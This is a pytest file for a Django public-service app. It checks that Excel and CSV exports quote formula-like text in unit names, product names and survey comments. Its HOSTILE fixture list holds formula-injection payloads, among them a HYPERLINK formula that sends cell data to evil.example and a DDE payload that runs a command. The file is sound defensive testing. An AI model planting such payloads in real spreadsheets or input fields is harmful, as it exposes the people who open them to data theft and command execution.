"""No name or comment typed by a user runs as a formula in an exported spreadsheet.

Workbooks are read back with openpyxl (the cell is text, not a formula, and keeps its text);
CSV files with csv (the field starts with an apostrophe)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from sikap.core.spreadsheet import SafeCsvWriter, safe_cell, workbook_bytes
from sikap.publicservice import domain
from tests.culture.conftest import add_comments, make_campaign

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_quotes_formula_like_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Dinas Kesehatan", "", "a=b", "1+1", 42, -5, 3.5, None])
def test_safe_cell_leaves_plain_text_and_numbers_alone(value):
    assert safe_cell(value) == value


def test_workbook_keeps_the_text_but_never_a_formula_and_numbers_stay_numbers():
    wb = Workbook()
    wb.active.append([*HOSTILE, -5, 2.5, "Dinas"])
    wb.create_sheet("Dua").append(["=1+1"])
    back = load_workbook(io.BytesIO(workbook_bytes(wb)))
    cells = list(back.active[1])
    # XML turns a stored carriage return into a line feed; the rest of the text is kept.
    kept = [t.replace("\r", "\n") for t in HOSTILE]
    assert [c.value for c in cells] == [*kept, -5, 2.5, "Dinas"]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE) + ["n", "n", "s"]
    assert [c.quotePrefix for c in cells[: len(HOSTILE)]] == [True] * len(HOSTILE)
    assert (back["Dua"]["A1"].value, back["Dua"]["A1"].data_type) == ("=1+1", "s")


def test_csv_writer_quotes_every_formula_like_field():
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([[HOSTILE[0], 7, -1], ["ok", "-x", ""]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["'" + HOSTILE[0], "7", "-1"], ["ok", "'-x", ""]]


def _assert_text_cell(cell, text):
    assert (cell.value, cell.data_type) == (text, "s")


def test_culture_excel_and_raw_csv_neutralise_unit_names_and_comments(personas, client_for):
    personas.opd_b.name = HOSTILE[0]
    personas.opd_b.save(update_fields=["name"])
    campaign = make_campaign(personas)
    comments = [HOSTILE[1]] + [f"saran {i}" for i in range(9)]
    add_comments(campaign, "DUKCAPIL", comments)
    from tests.culture.conftest import publish

    publish(campaign)
    client = client_for(personas.admin_pemda)
    xlsx = client.get(reverse("culture:export_xlsx", args=[campaign.code]))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "DUKCAPIL")
    _assert_text_cell(row[1], HOSTILE[0])
    assert row[2].value == 10 and row[2].data_type == "n"
    raw = client.get(reverse("culture:export_raw", args=[campaign.code])).content.decode()
    rows = list(csv.DictReader(io.StringIO(raw)))
    komentar = sorted(r["komentar"] for r in rows if r["unit"] == "DUKCAPIL")
    assert komentar == sorted(["'" + HOSTILE[1]] + [f"saran {i}" for i in range(9)])


def test_skm_excel_neutralises_unit_and_product_names(personas, client_for):
    personas.puskesmas.name = HOSTILE[3]
    personas.puskesmas.save(update_fields=["name"])
    su, _ = domain.service_unit_ensure(actor=None, unit=personas.puskesmas)
    product = domain.service_product_create(actor=None, service_unit=su, name=HOSTILE[0])
    year = dt.date.today().year
    domain.skm_submit(
        service_unit=su,
        product=product,
        answers={f"U{i}": 4 for i in range(1, 10)},
        today=dt.date(year, 1, 10),
    )
    domain.skm_recompute(service_unit_id=su.pk)
    client = client_for(personas.admin_pemda)
    unit_book = load_workbook(
        io.BytesIO(
            client.get(reverse("publicservice:excel", args=[su.pk]), {"periode": year}).content
        )
    )
    cells = {c.value: c for row in unit_book["Hasil SKM"].iter_rows() for c in row}
    _assert_text_cell(cells[HOSTILE[3]], HOSTILE[3])
    _assert_text_cell(cells[HOSTILE[0]], HOSTILE[0])
    all_units = load_workbook(
        io.BytesIO(client.get(reverse("publicservice:units_excel"), {"periode": year}).content)
    ).active
    row = next(r for r in all_units.iter_rows(min_row=2) if r[0].value == su.unit.code)
    _assert_text_cell(row[1], HOSTILE[3])
    assert row[2].value == 1 and row[2].data_type == "n"
